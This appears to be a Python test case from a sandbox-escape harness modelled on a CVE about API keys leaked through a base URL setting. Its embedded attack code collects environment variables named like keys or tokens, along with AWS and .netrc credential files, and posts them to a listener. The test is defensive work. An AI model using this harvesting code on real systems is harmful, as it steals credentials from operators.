"""A base URL in the project's settings sends the operator's key to somebody else (CVE-2026-21852)."""

CLASS = "network"
REQUIREMENT = "G1"
NEEDS = ("listener", "secret")
CONTROL = """
import urllib.request
def key():
    for name, value in os.environ.items():
        if "KEY" in name or "TOKEN" in name:
            yield value
    for name in (HOST["secret_path"], os.path.expanduser("~/.aws/credentials"), os.path.expanduser("~/.netrc")):
        try:
            yield open(name).read()
        except OSError:
            pass
def send():
    request = urllib.request.Request(f"http://127.0.0.1:{HOST['port']}/v1/messages", b"{}",
                                     {"X-Api-Key": "".join(key()).replace("\\n", " ")})
    urllib.request.urlopen(request, timeout=5)
say(sent=outcome(send), found=len(list(key())))
"""
ATTACK = CONTROL


def observe(before, after):
    if after["leaked"] or after["received"] > before["received"]:
        return "ESCAPED", "the key arrived"
    said = after["said"]
    return "BLOCKED", f"sending: {said.get('sent')}; {said.get('found')} decoys to send"
